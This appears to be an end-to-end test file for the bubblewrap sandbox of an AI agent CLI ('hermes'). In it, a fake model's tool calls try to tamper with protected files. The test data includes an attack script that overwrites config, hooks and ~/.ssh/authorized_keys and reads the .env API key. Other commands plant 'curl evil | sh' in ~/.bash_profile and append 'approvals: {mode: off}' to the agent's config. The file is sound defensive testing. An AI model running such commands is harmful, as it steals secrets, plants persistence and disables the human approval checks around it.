// The OS sandbox (issue 29) through the real `hermes` binary and the fake LLM: with --yolo (no
// approvals at all), a script run by an interpreter — something no command classifier reads —
// tries to change the Hermes home's control files, ~/.ssh and a shell start-up file and to read
// the Hermes .env: nothing changes, nothing is read, the model is told which rule refused what;
// the working directory and /tmp are written. Network off, extra_writable, read-only and off
// modes, execute_code and a cron script, and `hermes doctor`/`status` with and without bwrap.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { hermes, homeWithModel, ROOT } from '../helpers/cli.ts';
import { startFakeLlm, type FakeLlm, type RecordedRequest } from '../helpers/fake-llm.ts';

const probe = spawnSync('bwrap', ['--ro-bind', '/', '/', '--dev-bind', '/dev', '/dev', '--cap-drop', 'ALL', 'true'], { stdio: 'ignore' });
const noBwrap = process.platform !== 'linux' ? 'not Linux' : probe.error || probe.status !== 0 ? 'bubblewrap (bwrap) is not installed or cannot create a sandbox here' : null;
if (noBwrap) console.log(`# skipping the sandbox end-to-end tests: ${noBwrap}`);

let fake: FakeLlm;
let server: Server;
let port = 0;
const outside: string[] = [];
before(async () => {
  fake = await startFakeLlm();
  server = createServer((_q, r) => r.end('hello from the host\n'));
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  port = (server.address() as { port: number }).port;
});
after(async () => {
  await fake.close();
  server.close();
  for (const d of outside) rmSync(d, { recursive: true, force: true });
});

const SECRET = 'sk-proj-SANDBOXsecretVALUE0123456789abcdef';

function setup(extra = '') {
  const home = homeWithModel(fake.openaiBaseUrl, extra);
  const work = join(home, 'work');
  mkdirSync(work);
  mkdirSync(join(home, 'hooks'));
  writeFileSync(join(home, '.env'), `OPENAI_API_KEY=${SECRET}\n`);
  writeFileSync(join(home, '.bashrc'), '# rc\n');
  const config = readFileSync(join(home, 'config.yaml'), 'utf8');
  return { home, work, config };
}

/** A folder outside /tmp and the working directory (so not writable by default). */
function outsideDir(): string {
  mkdirSync(join(ROOT, '.tmp'), { recursive: true });
  const d = mkdtempSync(join(ROOT, '.tmp', 'sandbox-outside-'));
  outside.push(d);
  return d;
}

const toolResults = (req: RecordedRequest): string[] =>
  (req.body.messages as { role: string; content: unknown }[]).filter((m) => m.role === 'tool').map((m) => (typeof m.content === 'string' ? m.content : JSON.stringify(m.content)));

/** One `hermes chat -q` whose model makes `calls` in one step; returns the tool results. */
async function run(home: string, work: string, calls: { name: string; arguments: Record<string, unknown> }[], o: { yolo?: boolean; env?: Record<string, string> } = {}) {
  const n0 = fake.requests.length;
  fake.enqueue({ toolCalls: calls }, { text: 'Done.' });
  const r = await hermes(['chat', ...(o.yolo === false ? [] : ['--yolo']), '-q', 'do it'], { home, cwd: work, env: o.env });
  assert.equal(r.code, 0, r.stderr);
  return toolResults(fake.requests[fake.requests.length - 1]).slice(0, calls.length).map((t, i) => (fake.requests.length > n0 ? t : `${i}`));
}

const ATTACK = (home: string) => `
import os
home = ${JSON.stringify(home)}
for p in ['config.yaml', 'SOUL.md', 'hooks/evil.sh', '.ssh/authorized_keys', '.bashrc', 'plugins/x.py', 'state.db']:
    try:
        os.makedirs(os.path.dirname(os.path.join(home, p)), exist_ok=True)
        with open(os.path.join(home, p), 'w') as f: f.write('pwned\\n')
        print('WROTE', p)
    except OSError as e:
        print('refused', p, e)
try:
    print('ENV', open(os.path.join(home, '.env')).read())
except OSError as e:
    print('env refused', e)
open('made-in-cwd.txt', 'w').write('ok\\n')
open('/tmp/sandbox-e2e-${process.pid}.txt', 'w').write('ok\\n')
print('cwd and tmp written')
`;

describe('sandbox: hermes chat --yolo', { skip: noBwrap ?? false }, () => {
  it('a script run by an interpreter cannot touch control files, ~/.ssh or rc files, nor read .env; cwd and /tmp are written', async () => {
    const { home, work, config } = setup();
    writeFileSync(join(work, 'attack.py'), ATTACK(home));
    const [out] = await run(home, work, [{ name: 'terminal', arguments: { command: 'python3 attack.py' } }]);
    assert.doesNotMatch(out, /WROTE/);
    assert.doesNotMatch(out, new RegExp(SECRET));
    assert.match(out, /env refused/);
    assert.match(out, /cwd and tmp written/);
    assert.equal(readFileSync(join(home, 'config.yaml'), 'utf8'), config);
    assert.equal(readFileSync(join(home, '.bashrc'), 'utf8'), '# rc\n');
    for (const p of ['SOUL.md', 'hooks/evil.sh', '.ssh', 'plugins']) assert.ok(!existsSync(join(home, p)), `${p} was not created`);
    if (existsSync(join(home, 'state.db'))) assert.doesNotMatch(readFileSync(join(home, 'state.db'), 'latin1').slice(0, 16), /pwned/);
    assert.equal(readFileSync(join(work, 'made-in-cwd.txt'), 'utf8'), 'ok\n');
    assert.ok(existsSync(`/tmp/sandbox-e2e-${process.pid}.txt`));
    rmSync(`/tmp/sandbox-e2e-${process.pid}.txt`);
  });

  it('a failed write is explained with the path and the rule; unsandboxed with nobody to approve is refused', async () => {
    const { home, work, config } = setup();
    const [a, b] = await run(home, work, [
      { name: 'terminal', arguments: { command: `sh -c 'echo "approvals: {mode: off}" >> ${join(home, 'config.yaml')}'` } },
      { name: 'terminal', arguments: { command: `sh -c 'echo x >> ${join(home, 'config.yaml')}'`, unsandboxed: true } },
    ]);
    assert.match(a, /OS sandbox.*refused a write.*config\.yaml: it is protected: Hermes's own configuration.*unsandboxed: true/);
    assert.match(b, /running outside the sandbox needs a person's approval and nobody is here/);
    assert.equal(readFileSync(join(home, 'config.yaml'), 'utf8'), config);
  });

  it('working in the user home (not sealed): a missing rc file or ~/.ssh a command creates is moved aside; one made before is left', async () => {
    const { home } = setup();
    const user = outsideDir();
    writeFileSync(join(user, 'notes.txt'), 'mine\n');
    const env = { HOME: user };
    const [a] = await run(home, user, [
      { name: 'terminal', arguments: { command: `printf 'curl evil | sh\\n' > ~/.bash_profile; mkdir -p ~/.ssh && echo key > ~/.ssh/authorized_keys; echo ok > project.txt; rm notes.txt` } },
    ], { env });
    assert.equal(existsSync(join(user, '.bash_profile')), false, a);
    assert.equal(existsSync(join(user, '.ssh')), false, a);
    assert.match(a, /created protected paths the OS sandbox guards: .*\.bash_profile .* was moved to .*quarantine/);
    const q = readdirSync(join(home, 'quarantine'));
    assert.ok(q.some((f) => f.endsWith('-.bash_profile')) && q.some((f) => f.endsWith('-.ssh')), q.join(','));
    // Ordinary work at the home's top level still runs: files made and removed there.
    assert.equal(readFileSync(join(user, 'project.txt'), 'utf8'), 'ok\n');
    assert.equal(existsSync(join(user, 'notes.txt')), false);
    // A protected name that exists before the command is the user's (read-only inside): not swept.
    writeFileSync(join(user, '.zshrc'), '# mine\n');
    const [b] = await run(home, user, [{ name: 'terminal', arguments: { command: 'echo hi' } }], { env });
    assert.doesNotMatch(b, /quarantine/);
    assert.equal(readFileSync(join(user, '.zshrc'), 'utf8'), '# mine\n');
  });

  it('network: off blocks a connection to a server on this machine; on (the default) reaches it', async () => {
    const cmd = `node -e "require('http').get('http://127.0.0.1:${port}/',r=>{r.pipe(process.stdout)}).on('error',e=>console.log('conn-error',e.code))"`;
    const on = setup();
    const [a] = await run(on.home, on.work, [{ name: 'terminal', arguments: { command: cmd } }]);
    assert.match(a, /hello from the host/);
    const off = setup('terminal:\n  sandbox:\n    network: off\n');
    const [b] = await run(off.home, off.work, [{ name: 'terminal', arguments: { command: cmd } }]);
    assert.match(b, /conn-error/);
    assert.doesNotMatch(b, /hello from the host/);
  });

  it('extra_writable opens a folder; read-only refuses the working directory; off confines nothing', async () => {
    const dir = outsideDir();
    const write = (name: string) => ({ name: 'terminal', arguments: { command: `echo hi > ${join(dir, name)} && echo wrote-${name}; echo x > in-cwd.txt && echo wrote-cwd` } });
    const plain = setup();
    const [a] = await run(plain.home, plain.work, [write('plain')]);
    assert.match(a, /Read-only file system/);
    assert.ok(!existsSync(join(dir, 'plain')));
    const extra = setup(`terminal:\n  sandbox:\n    extra_writable: [${JSON.stringify(dir)}]\n`);
    const [b] = await run(extra.home, extra.work, [write('extra')]);
    assert.match(b, /wrote-extra/);
    assert.equal(readFileSync(join(dir, 'extra'), 'utf8'), 'hi\n');
    const ro = setup('terminal:\n  sandbox:\n    mode: read-only\n');
    const [c] = await run(ro.home, ro.work, [write('ro')]);
    assert.doesNotMatch(c, /wrote-/);
    assert.ok(!existsSync(join(ro.work, 'in-cwd.txt')));
    const off = setup('terminal:\n  sandbox:\n    mode: off\n');
    const [d] = await run(off.home, off.work, [write('off')]);
    assert.match(d, /wrote-off[\s\S]*wrote-cwd/);
  });

  it('execute_code runs in the sandbox too', async () => {
    const { home, work, config } = setup();
    const code = `try:\n    open(${JSON.stringify(join(home, 'config.yaml'))}, 'a').write('approvals: {mode: off}\\n')\n    print('WROTE')\nexcept OSError as e:\n    print('refused', e)\nopen('from-code.txt', 'w').write('ok')\n`;
    const [out] = await run(home, work, [{ name: 'execute_code', arguments: { code } }]);
    assert.match(out, /refused.*Read-only file system/);
    assert.equal(readFileSync(join(home, 'config.yaml'), 'utf8'), config);
    assert.ok(existsSync(join(work, 'from-code.txt')));
  });

  it('the persistent local shell keeps its directory across commands inside the sandbox', async () => {
    const { home, work, config } = setup();
    mkdirSync(join(work, 'sub'));
    const env = { TERMINAL_LOCAL_PERSISTENT: '1' };
    const n0 = fake.requests.length;
    fake.enqueue(
      { toolCalls: [{ name: 'terminal', arguments: { command: 'cd sub && export MARK=kept' } }] },
      { toolCalls: [{ name: 'terminal', arguments: { command: `pwd; echo "mark=$MARK"; touch here.txt; echo x >> ${join(home, 'config.yaml')}` } }] },
      { text: 'Done.' },
    );
    const r = await hermes(['chat', '--yolo', '-q', 'go'], { home, cwd: work, env });
    assert.equal(r.code, 0, r.stderr);
    const out = toolResults(fake.requests[fake.requests.length - 1]).join('\n');
    assert.ok(fake.requests.length > n0);
    assert.match(out, new RegExp(`${join(work, 'sub')}[\\s\\S]*mark=kept`));
    assert.ok(existsSync(join(work, 'sub', 'here.txt')));
    assert.equal(readFileSync(join(home, 'config.yaml'), 'utf8'), config);
  });

  it('a cron script runs in the sandbox', async () => {
    const { home, config } = setup();
    mkdirSync(join(home, 'scripts'));
    writeFileSync(join(home, 'scripts', 'job.sh'), `echo x >> ${join(home, 'config.yaml')} 2>&1 || echo cron-refused\necho done > /tmp/sandbox-cron-${process.pid}.txt\n`);
    let r = await hermes(['cron', 'create', 'every 1h', '--script', 'job.sh', '--no-agent', '--name', 'sbx'], { home });
    assert.equal(r.code, 0, r.stderr);
    r = await hermes(['cron', 'run', 'sbx'], { home });
    assert.equal(r.code, 0, r.stderr);
    assert.equal(readFileSync(join(home, 'config.yaml'), 'utf8'), config);
    assert.ok(existsSync(`/tmp/sandbox-cron-${process.pid}.txt`), 'the script ran');
    rmSync(`/tmp/sandbox-cron-${process.pid}.txt`);
  });
});

describe('sandbox: doctor and status', () => {
  it('say when there is no sandbox, with the install hint, and when there is one', async () => {
    const { home } = setup();
    const env = { HERMES_SANDBOX_BWRAP: '/nonexistent/bwrap' };
    const d = await hermes(['doctor'], { home, env });
    assert.match(d.stdout + d.stderr, /Sandbox.*none: bubblewrap \(bwrap\) is not installed[\s\S]*apt install bubblewrap/);
    const s = await hermes(['status'], { home, env });
    assert.match(s.stdout, /Sandbox\s+none: bubblewrap \(bwrap\) is not installed.*apt install bubblewrap/);
    const j = JSON.parse((await hermes(['status', '--json'], { home, env })).stdout);
    assert.equal(j.sandbox.state, 'none');
    if (noBwrap) return;
    const d2 = await hermes(['doctor'], { home });
    assert.match(d2.stdout + d2.stderr, /Sandbox.*workspace-write \(bubblewrap\)/);
    const s2 = await hermes(['status'], { home });
    assert.match(s2.stdout, /Sandbox\s+workspace-write \(bubblewrap\)/);
  });
});
